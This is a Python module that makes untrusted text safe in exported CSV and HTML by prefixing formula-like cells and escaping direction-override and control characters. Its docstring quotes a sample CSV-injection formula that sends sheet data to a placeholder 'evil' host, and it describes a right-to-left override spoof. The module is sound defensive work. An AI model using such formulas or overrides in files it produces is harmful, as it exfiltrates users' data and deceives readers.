"""Untrusted text in the files we write for people: CSV opened in a spreadsheet, HTML
opened in a browser. One helper for every writer, so none can forget a case.

Player ids, model names and model text come from transcripts, imported logs and
`--labels` files, so they can hold anything. Two kinds of it do harm outside a terminal:

- **Formula cells.** A CSV cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
  return is run as a formula by Excel, LibreOffice and Google Sheets
  (`=HYPERLINK("http://evil/?"&A1, "click")` sends the sheet away). Such a text cell gets
  a leading `'`, which every spreadsheet reads as "this is text" (OWASP's advice);
  numbers stay numbers.
- **Direction overrides.** U+202E (right-to-left override) and its kin make the rest of a
  line read backwards, so `bot:\\u202elivE` shows as another name. In CSV and HTML each
  is replaced by its visible escape (`\\u202e`), as `core.text.printable` does on the
  terminal; so are the control characters other than tab and newline.

HTML needs nothing else here: jinja2 escapes markup, and the pages insert model text
with `textContent` only. `inert` is what their templates apply to every value
(`html_finalize`), and what the replay page applies to the data it embeds.
"""

from __future__ import annotations

import csv
import json
import os
import re
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

# Bidirectional formatting characters (the embeddings, overrides and isolates, the marks
# and the Arabic letter mark), the C0 controls but tab and newline, DEL and the C1 block.
_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f"
                     "\u202a-\u202e\u2066-\u2069]")
# What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _escape(m: re.Match[str]) -> str:
    code = ord(m.group())
    return f"\\x{code:02x}" if code <= 0xFF else f"\\u{code:04x}"


def inert(text: str) -> str:
    """`text` with every direction override and control character (but tab and newline)
    shown as its escape: visible, and without effect on the text around it."""
    if _UNSAFE.search(text) is None:
        return text  # the common case: no copy
    return _UNSAFE.sub(_escape, text)


def inert_data(value: Any, *, _depth: int = 0) -> Any:
    """`inert` applied to every string (keys too) inside JSON-like data."""
    if isinstance(value, str):
        return inert(value)
    if _depth >= 200:  # deeper than any transcript we write; the JSON encoder's business
        return value
    if isinstance(value, dict):
        return {inert(k) if isinstance(k, str) else k: inert_data(v, _depth=_depth + 1)
                for k, v in value.items()}
    if isinstance(value, list | tuple):
        return [inert_data(v, _depth=_depth + 1) for v in value]
    return value


def csv_cell(value: Any) -> Any:
    """One CSV cell: numbers as they are, None as empty, a list or a mapping as compact
    JSON (never a Python repr), and text made inert and kept from being a formula."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return value
    if isinstance(value, list | tuple | dict):
        text = json.dumps(value, ensure_ascii=False, separators=(",", ":"), default=str)
    else:
        text = str(value)
    text = inert(text)
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_text(columns: Sequence[Any], rows: Iterable[Sequence[Any]]) -> str:
    """A whole CSV file as text (header first), every cell through `csv_cell`."""
    import io

    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([csv_cell(c) for c in columns])
    writer.writerows([csv_cell(v) for v in row] for row in rows)
    return out.getvalue()


def write_csv(path: Path, columns: Sequence[Any], rows: Iterable[Sequence[Any]]) -> Path:
    """Write `csv_text` to `path` through a temporary file (a reader never sees half)."""
    tmp = path.with_name(path.name + ".tmp")
    tmp.write_text(csv_text(columns, rows), encoding="utf-8")
    os.replace(tmp, path)
    return path


def html_finalize(value: Any) -> Any:
    """jinja2's `finalize` for our pages: every value printed by a template is made
    inert before it is escaped. Markup of our own (the inlined CSS and script) has
    `__html__` and is kept as it is."""
    if isinstance(value, str) and not hasattr(value, "__html__"):
        return inert(value)
    return value


def file_slug(name: str, used: set[str] | None = None) -> str:
    """A file name part from a title: lower case letters, digits and `-`/`_` only (no
    spaces, no colons), unique within `used` when given (`-2`, `-3`, ...)."""
    slug = re.sub(r"[^a-z0-9_-]+", "_", name.lower()).strip("_") or "table"
    if used is None:
        return slug
    candidate, n = slug, 2
    while candidate in used:
        candidate, n = f"{slug}-{n}", n + 1
    used.add(candidate)
    return candidate


__all__ = ["FORMULA_START", "csv_cell", "csv_text", "file_slug", "html_finalize", "inert",
           "inert_data", "write_csv"]
